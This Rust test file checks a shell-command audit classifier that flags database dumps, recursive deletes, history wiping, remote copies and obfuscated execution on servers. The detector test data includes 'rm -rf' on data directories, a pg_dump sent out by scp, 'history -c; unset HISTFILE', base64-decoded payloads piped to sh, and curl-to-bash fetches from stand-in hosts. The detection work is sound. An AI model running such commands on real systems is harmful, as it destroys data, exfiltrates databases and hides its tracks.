use super::*;

#[test]
fn shipped_rules_hold_their_examples() {
    let rules = RuleSet::parse(SHIPPED_RULES).unwrap();
    assert!(
        (20..=40).contains(&rules.rules().len()),
        "{} rules",
        rules.rules().len()
    );
    for rule in rules.rules() {
        assert!(!rule.examples().is_empty(), "{} has no example", rule.id());
        assert!(
            !rule.counter_examples().is_empty(),
            "{} has no counter-example",
            rule.id()
        );
        for example in rule.examples() {
            let hits = rules.classify(example);
            assert!(
                hits.iter().any(|m| &m.rule == rule.id()),
                "{} misses {example:?}",
                rule.id()
            );
        }
        for example in rule.counter_examples() {
            assert!(
                !rule.matches_line(example),
                "{} matches {example:?}",
                rule.id()
            );
        }
    }
    assert_eq!(RuleSet::shipped().rules().len(), rules.rules().len());
}

#[test]
fn every_category_has_a_shipped_rule() {
    let rules = RuleSet::shipped();
    for category in Category::ALL {
        assert!(
            rules.rules().iter().any(|r| r.category() == category),
            "{category}"
        );
    }
}

#[test]
fn classify_looks_through_wrappers_and_pipelines() {
    let rules = RuleSet::shipped();
    let table: &[(&str, &[&str])] = &[
        ("ls -l /var/lib/pgsql", &[]),
        (
            "sudo rm -rf /var/lib/pgsql",
            &["rm-recursive", "rm-system-or-data"],
        ),
        (
            "pg_dump his | gzip > /tmp/his.gz && scp /tmp/his.gz x@203.0.113.5:",
            &["pg-dump", "remote-copy"],
        ),
        ("echo pg_dump", &[]),
        ("nohup sh -c 'sudo -u postgres pg_dumpall' &", &["pg-dump"]),
        ("find /data -name '*.csv' | xargs rm -rf", &["rm-recursive"]),
        ("history -c; unset HISTFILE", &["shell-history"]),
        ("systemctl restart postgresql-16", &[]),
        ("curl -s http://localhost:8080/health", &[]),
    ];
    for (line, expected) in table {
        let ids: Vec<String> = rules
            .classify(line)
            .iter()
            .map(|m| m.rule.to_string())
            .collect();
        assert_eq!(ids, *expected, "{line:?}");
    }
    let m = rules.classify("sudo rm -rf /var/lib/pgsql");
    let first = m.first().unwrap();
    assert_eq!(first.command, "rm -rf /var/lib/pgsql");
    assert_eq!(first.category, Category::Destructive);
    assert_eq!(first.requirement, "R-10-4");
}

const GOOD: &str = r#"
[[rule]]
id = "pg-dump"
category = "data-export"
severity = "high"
requirement = "R-10-2"
title_ja = "出力"
title_en = "dumped"
pattern = '^pg_dump\s'
examples = ["pg_dump his"]
counter_examples = ["pg_restore his"]
"#;

/// `GOOD` with one line replaced (or removed, when `to` is empty).
fn with(from: &str, to: &str) -> String {
    let out = GOOD.replace(from, to);
    assert_ne!(out, GOOD, "{from:?} not in GOOD");
    out
}

#[test]
fn a_good_file_parses() {
    let rules = RuleSet::parse(GOOD).unwrap();
    let rule = rules.rules().first().unwrap();
    assert_eq!(rule.id().as_str(), "pg-dump");
    assert_eq!(rule.severity(), Severity::High);
    assert_eq!(rule.requirement(), "R-10-2");
    assert!(rules.rule(&"pg-dump".parse().unwrap()).is_some());
    assert!(RuleSet::parse("").unwrap().rules().is_empty());
}

#[test]
fn parse_errors_name_the_rule_and_the_field() {
    let at = |id: Option<&str>| RuleAt {
        index: 1,
        id: id.map(str::to_owned),
    };
    let pg = Some("pg-dump");
    let table: Vec<(String, RuleError)> = vec![
        (
            with("id = \"pg-dump\"\n", ""),
            RuleError::Missing {
                at: at(None),
                field: "id",
            },
        ),
        (
            with("severity = \"high\"\n", "severity = \" \"\n"),
            RuleError::Missing {
                at: at(pg),
                field: "severity",
            },
        ),
        (
            with("title_en = \"dumped\"\n", ""),
            RuleError::Missing {
                at: at(pg),
                field: "title_en",
            },
        ),
        (
            with("examples = [\"pg_dump his\"]\n", ""),
            RuleError::Missing {
                at: at(pg),
                field: "examples",
            },
        ),
        (
            with("category = \"data-export\"", "category = \"exfil\""),
            RuleError::UnknownValue {
                at: at(pg),
                field: "category",
                value: "exfil".to_owned(),
                expected: "data-export, destructive, account-change, log-tampering, outbound-transfer, security-disabled, remote-access, obfuscated-execution",
            },
        ),
        (
            with("requirement = \"R-10-2\"", "requirement = \"R-10-22\""),
            RuleError::UnknownValue {
                at: at(pg),
                field: "requirement",
                value: "R-10-22".to_owned(),
                expected: "the requirement IDs of the requirements list (R-10-2, R-17-2, …)",
            },
        ),
        (
            with(
                "examples = [\"pg_dump his\"]",
                "examples = [\"pg_dumpall\"]",
            ),
            RuleError::ExampleMissed {
                at: at(pg),
                example: "pg_dumpall".to_owned(),
            },
        ),
        (
            with(
                "counter_examples = [\"pg_restore his\"]",
                "counter_examples = [\"sudo pg_dump x\"]",
            ),
            RuleError::CounterExampleHit {
                at: at(pg),
                example: "sudo pg_dump x".to_owned(),
            },
        ),
    ];
    for (text, expected) in table {
        assert_eq!(RuleSet::parse(&text).err(), Some(expected), "{text}");
    }

    let bad_id = RuleSet::parse(&with("id = \"pg-dump\"", "id = \"PG dump\"")).unwrap_err();
    assert!(matches!(bad_id, RuleError::BadId { .. }), "{bad_id}");
    assert!(
        bad_id.to_string().starts_with("rule 1 (PG dump): `id`"),
        "{bad_id}"
    );

    let severity = RuleSet::parse(&with("\"high\"", "\"urgent\"")).unwrap_err();
    assert!(matches!(
        severity,
        RuleError::UnknownValue {
            field: "severity",
            ..
        }
    ));

    let pattern = RuleSet::parse(&with(r"'^pg_dump\s'", "'^pg_dump('")).unwrap_err();
    assert!(
        matches!(
            pattern,
            RuleError::BadPattern {
                field: "pattern",
                ..
            }
        ),
        "{pattern}"
    );
    let unless = RuleSet::parse(&with("pattern =", "unless = '('\npattern =")).unwrap_err();
    assert!(matches!(
        unless,
        RuleError::BadPattern {
            field: "unless",
            ..
        }
    ));

    let twice = format!("{GOOD}{}", GOOD.replace("pg_restore", "pg_basebackup"));
    assert_eq!(
        RuleSet::parse(&twice).unwrap_err(),
        RuleError::DuplicateId {
            at: RuleAt {
                index: 2,
                id: Some("pg-dump".to_owned())
            }
        }
    );

    let unknown_key = RuleSet::parse(&with("pattern =", "patern = 'x'\npattern =")).unwrap_err();
    assert!(matches!(unknown_key, RuleError::Syntax(_)), "{unknown_key}");
    assert!(unknown_key.to_string().contains("patern"), "{unknown_key}");
    assert!(matches!(
        RuleSet::parse("[[rule]\n"),
        Err(RuleError::Syntax(_))
    ));
    let message = RuleSet::parse(&with("title_en = \"dumped\"\n", ""))
        .unwrap_err()
        .to_string();
    assert_eq!(message, "rule 1 (pg-dump): `title_en` is missing or empty");
}

#[test]
fn unless_cancels_a_match() {
    let text = with("pattern =", "unless = 'schema-only'\npattern =");
    let rules = RuleSet::parse(&text).unwrap();
    assert_eq!(rules.classify("pg_dump his").len(), 1);
    assert!(rules.classify("pg_dump --schema-only his").is_empty());
}

#[test]
fn names_round_trip() {
    for c in Category::ALL {
        assert_eq!(c.as_str().parse::<Category>(), Ok(c));
        assert!(!c.japanese().is_empty() && !c.english().is_empty());
    }
    for s in Severity::ALL {
        assert_eq!(s.as_str().parse::<Severity>(), Ok(s));
    }
    assert!(Severity::Info < Severity::Low && Severity::High < Severity::Critical);
}

#[test]
fn everyday_maintenance_is_not_flagged() {
    let rules = RuleSet::shipped();
    let lines = [
        "ls -la /data",
        "cd /var/lib/pgsql && du -sh *",
        "df -h; free -m; uptime",
        "ps aux | grep java",
        "systemctl status postgresql-16",
        "sudo systemctl restart nginx",
        "journalctl -u postgresql-16 --since today",
        "tail -f /var/log/messages",
        "grep -i error /var/log/app/app.log > /tmp/errors.txt",
        "tar czf /tmp/app-logs.tgz /var/log/app",
        "vi /etc/nginx/nginx.conf",
        "sed -i 's/workers 4/workers 8/' /etc/app/app.conf",
        "sudo dnf update -y postgresql16-server",
        "psql his -c 'select count(*) from pg_stat_activity'",
        "grep -i grant /etc/app/notes.txt",
        "cp /opt/app/app.conf /opt/app/app.conf.bak",
        "rm -f /tmp/app.pid",
        "chmod 640 /etc/app/app.conf",
        "ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub",
        "curl -sf http://localhost:8080/health",
        "echo done",
        "history | tail -20",
        "date",
        "cat /etc/os-release",
    ];
    for line in lines {
        let hits: Vec<String> = rules
            .classify(line)
            .iter()
            .map(|m| m.rule.to_string())
            .collect();
        assert!(hits.is_empty(), "{line:?} flagged by {hits:?}");
    }
}

#[test]
fn obfuscated_execution_is_its_own_rule() {
    let rules = RuleSet::shipped();
    let flagged = |line: &str| {
        rules
            .classify(line)
            .iter()
            .any(|m| m.rule.as_str() == "obfuscated-execution")
    };
    for line in [
        "eval \"$(echo cm0gLXJmIC8K | base64 -d)\"",
        "echo cm0gLXJmIC8K | base64 -d | sh",
        "echo cm0gLXJmIC8K|base64 -d|bash",
        "bash <(curl -s http://192.0.2.1/x)",
        "sh <(wget -O- http://192.0.2.1/x)",
        "curl -s http://192.0.2.1/x | bash",
        "python3 -c 'exec(__import__(\"base64\").b64decode(\"cHJpbnQoMSk=\"))'",
        "perl -e 'eval(decode_base64(\"cHJpbnQgMQ==\"))'",
        "xxd -r -p /tmp/p.hex | sh",
        "cd /tmp; echo x | b\\ase64 -d | s'h'",
    ] {
        assert!(flagged(line), "{line:?}");
    }
    for line in [
        "base64 /tmp/file",
        "base64 -d a.b64 > a.bin; sh ./run.sh",
        "python3 -c 'print(1)'",
        "perl -e 'print 1'",
        "curl -s http://localhost/x | sha256sum",
        "eval \"$(ssh-agent -s)\"",
        "ls -l | sort",
    ] {
        assert!(!flagged(line), "{line:?}");
    }
    let m = rules.classify("echo eA== | base64 -d | sh");
    let hit = m
        .iter()
        .find(|m| m.rule.as_str() == "obfuscated-execution")
        .unwrap();
    assert_eq!(hit.category, Category::ObfuscatedExecution);
    assert_eq!(hit.command, "echo eA== | base64 -d | sh");
}

#[test]
fn a_scope_is_command_or_line() {
    let rule = |scope: &str| {
        format!(
            "[[rule]]\nid = \"x\"\ncategory = \"destructive\"\nseverity = \"low\"\n\
             requirement = \"R-10-4\"\ntitle_ja = \"x\"\ntitle_en = \"x\"\n{scope}\n\
             pattern = 'a \\| b'\nexamples = [\"a | b\"]\n"
        )
    };
    assert!(RuleSet::parse(&rule("scope = \"line\"")).is_ok());
    // Per command, `a | b` is two commands and the pattern sees neither joined.
    assert!(matches!(
        RuleSet::parse(&rule("scope = \"command\"")),
        Err(RuleError::ExampleMissed { .. })
    ));
    assert!(matches!(
        RuleSet::parse(&rule("scope = \"pipeline\"")),
        Err(RuleError::UnknownValue { field: "scope", .. })
    ));
}
